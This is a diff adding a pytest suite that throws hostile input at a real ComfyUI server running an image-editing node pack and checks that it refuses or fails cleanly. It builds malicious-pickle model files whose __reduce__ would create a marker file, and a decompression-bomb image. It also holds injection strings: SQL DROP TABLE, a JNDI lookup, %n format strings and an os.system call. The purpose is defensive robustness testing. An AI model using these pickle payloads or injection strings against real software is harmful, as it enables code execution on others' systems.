@@ -1,0 +1,365 @@
+"""Hostile input through a real ComfyUI server (``main.py --cpu`` with the pack and tiny models).
+
+Each case queues one prompt over HTTP and asserts that (1) the answer is what the case documents:
+refused at queue time, or failed at run time, with the node and what is wrong in the message, or
+run with a documented fallback; (2) the server still answers; (3) the next good prompt gives the
+same bytes as before the hostile one. Cancels (``POST /interrupt``) during the chain and the
+sampler are covered the same way, with how long the stop took.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import math
+import pickle
+import time
+import zipfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+from grounded_ip2p.headless.comfy_session import ServerError
+
+from .browser_server import ComfyServer, prepare_base
+from .comfy_harness import comfy_path_or_none
+from .conftest import NO_COMFY
+from .graphs import chain
+
+pytestmark = [pytest.mark.comfy, pytest.mark.slow]
+
+REPO = Path(__file__).resolve().parents[1]
+MODELS = {"gdino": "groundingdino_swint_ogc.pth", "sam": "sam_vit_h_4b8939.pth", "clip": "ViT-L-14.pt"}
+CKPT = "instruct-pix2pix-00-22000.safetensors"
+PHOTO = "street.png"
+PWNED = "grounded_ip2p_pickle_ran"  # a file the malicious pickles would create
+
+
+class Pwned:
+    """Unpickling this would create PWNED in the current folder: a loader must never unpickle it."""
+
+    def __reduce__(self):
+        return (open, (PWNED, "w"))
+
+
+# --- the server and its files ------------------------------------------------------------------------
+
+
+def _photos(input_dir: Path) -> None:
+    from PIL import Image
+
+    street = Image.new("RGB", (96, 64), (90, 140, 200))
+    for x0, colour in ((6, (200, 30, 30)), (38, (30, 160, 40)), (70, (220, 200, 40))):
+        street.paste(colour, (x0, 30, x0 + 20, 50))
+    street.save(input_dir / PHOTO)
+    Image.new("RGB", (1, 1), (10, 20, 30)).save(input_dir / "one_pixel.png")
+    Image.new("RGB", (7, 9), (10, 20, 30)).save(input_dir / "seven_by_nine.png")
+    Image.new("I;16", (64, 48), 30000).save(input_dir / "sixteen_bit.png")
+    Image.new("CMYK", (64, 48), (10, 200, 30, 0)).save(input_dir / "cmyk.jpg")
+    Image.new("P", (64, 48), 3).save(input_dir / "palette.png")
+    Image.new("LA", (64, 48), (128, 100)).save(input_dir / "gray_alpha.png")
+    buffer = io.BytesIO()
+    street.save(buffer, "PNG")
+    (input_dir / "truncated.png").write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])
+    (input_dir / "not_an_image.png").write_bytes(b"this is text, not a PNG\n" * 10)
+    # a decompression bomb: a tiny file that claims 40000 x 40000 pixels
+    Image.new("1", (40000, 40000)).save(input_dir / "bomb.png", optimize=True)
+
+
+def _hostile_models(models: Path) -> None:
+    sams, gdino, clip = models / "sams", models / "grounding-dino", models / "clip_filter"
+    (sams / "text_file.pth").write_text("not a model\n")
+    real = (sams / MODELS["sam"]).read_bytes()
+    (sams / "truncated.pth").write_bytes(real[: len(real) // 3])
+    with open(sams / "pickle_raw.pth", "wb") as f:
+        pickle.dump({"model": Pwned()}, f)
+    with zipfile.ZipFile(sams / "pickle_zip.pth", "w") as z:  # torch.save's zip layout, a bad pickle in it
+        z.writestr("archive/data.pkl", pickle.dumps({"model": Pwned()}))
+        z.writestr("archive/version", "3\n")
+    (gdino / "sam_in_gdino.pth").write_bytes(real)  # the wrong kind for the loader
+    (clip / "sam_in_clip.pth").write_bytes(real)
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory):
+    comfy_path = comfy_path_or_none()
+    if comfy_path is None:
+        pytest.skip(NO_COMFY)
+    base = tmp_path_factory.mktemp("reliability")
+    workflow = json.loads((REPO / "example_workflows" / "grounded_edit.json").read_text())
+    prepare_base(base, [workflow], comfy_path)
+    _photos(base / "input")
+    _hostile_models(base / "models")
+    with ComfyServer(comfy_path, base) as srv:
+        yield srv
+    assert not (comfy_path / PWNED).exists() and not (base / PWNED).exists(), "a pickle in a model file ran"
+
+
+# --- prompts ---------------------------------------------------------------------------------------
+
+
+def mask_prompt(image=PHOTO, instruction="make the left car purple", run: int = 0, **options) -> dict:
+    """The chain to a saved mask. ``run`` changes the instruction's trailing blanks, which the
+    analysis ignores, so that ComfyUI runs it again instead of answering from its cache."""
+    prompt = chain(MODELS, image, instruction + " " * run, box_threshold=0.0, **options)
+    prompt["as_image"] = {"class_type": "MaskToImage", "inputs": {"mask": ["mask", 0]}}
+    prompt["save"] = {"class_type": "SaveImage", "inputs": {"images": ["as_image", 0], "filename_prefix": "mask"}}
+    return prompt
+
+
+def edit_prompt(run: int = 0, steps: int = 2, **sampler) -> dict:
+    prompt = mask_prompt(run=run)
+    prompt.update(
+        {
+            "ckpt": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": CKPT}},
+            "pos": {"class_type": "CLIPTextEncode", "inputs": {"clip": ["ckpt", 1], "text": ["np", 2]}},
+            "neg": {"class_type": "CLIPTextEncode", "inputs": {"clip": ["ckpt", 1], "text": ""}},
+            "out": {
+                "class_type": "GroundedIP2P_BlendedSampler",
+                "inputs": {
+                    "model": ["ckpt", 0],
+                    "positive": ["pos", 0],
+                    "negative": ["neg", 0],
+                    "vae": ["ckpt", 2],
+                    "image": ["img", 0],
+                    "mask": ["mask", 0],
+                    "seed": 1,
+                    "steps": steps,
+                    "text_cfg": 7.5,
+                    "image_cfg": 1.5,
+                    "sampler_name": "euler",
+                    "scheduler": "normal",
+                    "start_t": 100,
+                    "end_t": 1,
+                    "background": "noised",
+                    **sampler,
+                },
+            },
+            "decode": {"class_type": "VAEDecode", "inputs": {"samples": ["out", 0], "vae": ["ckpt", 2]}},
+            "save_edit": {"class_type": "SaveImage", "inputs": {"images": ["decode", 0], "filename_prefix": "edit"}},
+        }
+    )
+    return prompt
+
+
+@dataclass
+class Outcome:
+    kind: str  # refused | failed | interrupted | ok
+    text: str = ""
+    images: list[bytes] = field(default_factory=list)  # pixel bytes of each saved image
+    seconds: float = 0.0
+
+
+def submit(server, prompt: dict, timeout: float = 300) -> Outcome:
+    started = time.monotonic()
+    try:
+        answer = server.client.queue(prompt, "reliability")
+    except ServerError as e:
+        if e.status != 400:
+            raise
+        return Outcome("refused", e.body, seconds=time.monotonic() - started)
+    if answer.get("node_errors"):  # queued for the outputs that validated only: still a refusal
+        server.client.wait(answer["prompt_id"], timeout)
+        return Outcome("refused", json.dumps(answer["node_errors"]), seconds=time.monotonic() - started)
+    entry = server.client.wait(answer["prompt_id"], timeout)
+    return outcome_of(server, entry, started)
+
+
+def pixels(png: bytes) -> bytes:
+    """An output image's pixel bytes (the file also holds the prompt, which differs run to run)."""
+    from PIL import Image
+
+    with Image.open(io.BytesIO(png)) as im:
+        return im.mode.encode() + repr(im.size).encode() + im.tobytes()
+
+
+def outcome_of(server, entry: dict, started: float) -> Outcome:
+    status = entry["status"]
+    seconds = time.monotonic() - started
+    messages = dict((kind, data) for kind, data in status.get("messages", []))
+    if "execution_interrupted" in messages:
+        return Outcome("interrupted", json.dumps(messages["execution_interrupted"]), seconds=seconds)
+    if status.get("status_str") != "success":
+        return Outcome("failed", json.dumps(messages.get("execution_error", messages)), seconds=seconds)
+    images = [
+        pixels(server.client.view(item))
+        for node in entry.get("outputs", {}).values()
+        for item in node.get("images", [])
+        if item.get("type") == "output"
+    ]
+    return Outcome("ok", images=images, seconds=seconds)
+
+
+@pytest.fixture(scope="module")
+def reference(server) -> list[bytes]:
+    """The good prompt's saved mask before any hostile case."""
+    first = submit(server, mask_prompt(run=0))
+    assert first.kind == "ok" and first.images, first.text
+    return first.images
+
+
+_runs = iter(range(1, 10**6))
+
+
+def still_good(server, reference: list[bytes]) -> None:
+    assert server.alive(), server.log_tail()
+    again = submit(server, mask_prompt(run=next(_runs)))
+    assert again.kind == "ok" and again.images == reference, again.text
+
+
+# --- the cases -------------------------------------------------------------------------------------
+
+
+def sampler_prompt(**values):
+    return edit_prompt(**values)
+
+
+def instruction(text):
+    return mask_prompt(instruction=text)
+
+
+def image(name):
+    return mask_prompt(image=name)
+
+
+def loader(node_key, name):
+    prompt = mask_prompt()
+    prompt[node_key]["inputs"]["model_name"] = name
+    return prompt
+
+
+def solid_mask(value, width=96, height=64):
+    prompt = edit_prompt()
+    prompt["solid"] = {"class_type": "SolidMask", "inputs": {"value": value, "width": width, "height": height}}
+    prompt["out"]["inputs"]["mask"] = ["solid", 0]
+    return prompt
+
+
+def widget(node_key, name, value):
+    prompt = mask_prompt()
+    prompt[node_key]["inputs"][name] = value
+    return prompt
+
+
+# (id, prompt builder, expected kind, words the message must hold)
+CASES = [
+    # the instruction zoo: analysed, at worst a whole-image edit (SAM Mask's documented fallback)
+    ("instruction-empty", lambda: instruction(""), "ok", ""),
+    ("instruction-100k", lambda: instruction("make the car red " * 6000), "ok", ""),
+    ("instruction-control", lambda: instruction("make \x01\x02\x1b[31m the car \x7f red"), "ok", ""),
+    ("instruction-null", lambda: instruction("make the\x00 car red"), "ok", ""),
+    ("instruction-rtl", lambda: instruction("\u202emake the car red\u202c"), "ok", ""),
+    ("instruction-chinese", lambda: instruction("把左边的汽车变成紫色"), "ok", ""),
+    ("instruction-arabic", lambda: instruction("اجعل السيارة حمراء"), "ok", ""),
+    ("instruction-sql", lambda: instruction("'; DROP TABLE users; --"), "ok", ""),
+    ("instruction-template", lambda: instruction("{{7*7}} ${jndi:ldap://x} %s%s%n"), "ok", ""),
+    ("instruction-python", lambda: instruction("__import__('os').system('touch pwned')"), "ok", ""),
+    ("instruction-emoji", lambda: instruction("make the 🚗 🟣 " * 50), "ok", ""),
+    ("instruction-newlines", lambda: instruction("make the car\n\r\nred\u2028now"), "ok", ""),
+    # images
+    ("image-1x1", lambda: image("one_pixel.png"), "ok", ""),
+    ("image-7x9", lambda: image("seven_by_nine.png"), "ok", ""),
+    ("image-16bit", lambda: image("sixteen_bit.png"), "ok", ""),
+    ("image-cmyk", lambda: image("cmyk.jpg"), "ok", ""),
+    ("image-palette", lambda: image("palette.png"), "ok", ""),
+    ("image-gray-alpha", lambda: image("gray_alpha.png"), "ok", ""),
+    ("image-truncated", lambda: image("truncated.png"), "ok", ""),  # ComfyUI loads what is there
+    ("image-not-an-image", lambda: image("not_an_image.png"), "failed", "LoadImage"),
+    ("image-bomb", lambda: image("bomb.png"), "failed", "LoadImage"),
+    ("image-missing", lambda: image("no_such_photo.png"), "refused", "image"),
+    # masks into the sampler
+    ("mask-all-zero", lambda: solid_mask(0.0), "ok", ""),
+    ("mask-all-one", lambda: solid_mask(1.0), "ok", ""),
+    ("mask-nan", lambda: solid_mask(math.nan), "failed", "NaN or infinite"),
+    ("mask-inf", lambda: solid_mask(math.inf), "refused", "SolidMask"),  # ComfyUI's own max check
+    ("mask-other-size", lambda: solid_mask(0.0, 33, 17), "ok", ""),
+    # model files
+    (
+        "model-missing",
+        lambda: loader("sam", "sam_vit_q.pth"),
+        "refused",
+        "Load SAM: model file 'sam_vit_q.pth' is not in",
+    ),
+    ("model-text-file", lambda: loader("sam", "text_file.pth"), "failed", "text_file.pth"),
+    ("model-truncated", lambda: loader("sam", "truncated.pth"), "failed", "truncated.pth"),
+    ("model-pickle-raw", lambda: loader("sam", "pickle_raw.pth"), "failed", "pickle_raw.pth"),
+    ("model-pickle-zip", lambda: loader("sam", "pickle_zip.pth"), "failed", "pickle_zip.pth"),
+    ("model-sam-as-gdino", lambda: loader("gd", "sam_in_gdino.pth"), "failed", "sam_in_gdino.pth"),
+    ("model-sam-as-clip", lambda: loader("clip", "sam_in_clip.pth"), "failed", "sam_in_clip.pth"),
+    # widget values
+    ("steps-0", lambda: sampler_prompt(steps=0), "refused", "steps 0 is below its minimum 1"),
+    ("steps-huge", lambda: sampler_prompt(steps=10**6), "refused", "above its maximum"),
+    ("seed-negative", lambda: sampler_prompt(seed=-1), "refused", "seed -1 is below its minimum 0"),
+    ("cfg-nan", lambda: sampler_prompt(text_cfg=math.nan), "refused", "text_cfg is nan"),
+    ("cfg-inf", lambda: sampler_prompt(image_cfg=math.inf), "refused", "image_cfg is inf"),
+    ("start-t-huge", lambda: sampler_prompt(start_t=10**9), "refused", "start_t 1000000000 is above its maximum"),
+    ("scheduler-unknown", lambda: sampler_prompt(scheduler="nope"), "refused", "scheduler 'nope' is not one of"),
+    ("sampler-unknown", lambda: sampler_prompt(sampler_name="nope"), "refused", "sampler_name 'nope' is not one of"),
+    ("background-unknown", lambda: sampler_prompt(background="nope"), "refused", "background 'nope' is not one of"),
+    ("threshold-nan", lambda: widget("det", "box_threshold", math.nan), "refused", "box_threshold is nan"),
+    ("dilation-negative", lambda: widget("mask", "dilation", -3), "refused", "dilation -3 is below its minimum 0"),
+    ("no-detection-unknown", lambda: widget("mask", "no_detection", "explode"), "refused", "no_detection 'explode'"),
+    ("mode-unknown", lambda: widget("np", "mode", "poetry"), "refused", "mode 'poetry' is not one of"),
+]
+
+
+@pytest.mark.parametrize("case, build, kind, words", CASES, ids=[c[0] for c in CASES])
+def test_hostile_case(server, reference, case, build, kind, words):
+    outcome = submit(server, build())
+    assert outcome.kind == kind, f"{case}: {outcome.kind}, expected {kind}: {outcome.text[:2000]}"
+    if words:
+        assert words in outcome.text, f"{case}: the message does not say {words!r}: {outcome.text[:2000]}"
+    still_good(server, reference)
+
+
+# --- cancels ---------------------------------------------------------------------------------------
+
+
+def cancel_after(server, prompt: dict, node_type: str, timeout: float = 300) -> Outcome:
+    """Queue ``prompt``, send /interrupt once the node of ``node_type`` is running, and return
+    the outcome with ``seconds`` = the time from the interrupt to the end of the run."""
+    import threading
+
+    from grounded_ip2p.headless.comfy_session import ServerEvents
+
+    wanted = {k for k, n in prompt.items() if n["class_type"] == node_type}
+    running = threading.Event()
+
+    def on_event(kind, data):
+        if kind == "executing" and str(data.get("node")) in wanted:
+            running.set()
+
+    with ServerEvents(server.url, "reliability-cancel", on_event):
+        answer = server.client.queue(prompt, "reliability-cancel")
+        assert running.wait(timeout), f"{node_type} never started"
+        time.sleep(0.3)  # inside the node's work
+        sent = time.monotonic()
+        server.client.post("/interrupt", {})
+        entry = server.client.wait(answer["prompt_id"], timeout)
+    outcome = outcome_of(server, entry, sent)
+    outcome.seconds = time.monotonic() - sent
+    return outcome
+
+
+CANCELS = [
+    ("GroundedIP2P_GroundingDINODetect", lambda run: mask_prompt(image="big.png", run=run)),
+    ("GroundedIP2P_ClipFilter", lambda run: mask_prompt(image="big.png", run=run)),
+    ("GroundedIP2P_SAMMask", lambda run: mask_prompt(image="big.png", run=run)),
+    ("GroundedIP2P_BlendedSampler", lambda run: edit_prompt(run=run, steps=200)),
+]
+
+
+@pytest.fixture(scope="module")
+def big_photo(server):
+    from PIL import Image
+
+    Image.effect_noise((4096, 4096), 60).convert("RGB").save(server.base / "input" / "big.png")
+
+
+@pytest.mark.parametrize("node_type, build", CANCELS, ids=[c[0].split("_", 1)[1] for c in CANCELS])
+def test_cancel_stops_within_two_seconds(server, reference, big_photo, node_type, build):
+    outcome = cancel_after(server, build(next(_runs)), node_type)
+    print(f"\ncancel during {node_type}: stopped {outcome.seconds:.2f} s after /interrupt ({outcome.kind})")
+    assert outcome.kind in ("interrupted", "ok"), outcome.text[:2000]
+    assert outcome.seconds < 2.0, f"{node_type}: {outcome.seconds:.1f} s from /interrupt to the end"
+    still_good(server, reference)
